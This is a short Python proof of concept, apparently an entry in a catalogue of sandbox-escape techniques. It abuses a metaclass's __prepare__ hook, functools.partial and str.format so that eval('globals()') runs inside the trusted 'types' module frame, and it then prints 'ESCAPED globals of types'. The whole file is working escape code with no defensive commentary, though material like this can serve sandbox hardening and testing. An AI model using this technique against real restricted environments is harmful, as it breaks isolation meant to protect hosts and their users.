# technique: a metaclass whose __prepare__ is a C callable, called by types.prepare_class
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import types
kept = []


class Show:
    __format__ = staticmethod(functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()']))))


class Meta(type):
    __prepare__ = staticmethod(functools.partial('{0}'.format, Show()))


try:
    types.new_class('X', (), {'metaclass': Meta})
except TypeError:
    pass
if kept[0]['__name__'] == 'types':
    print('ESCAPED globals of types')
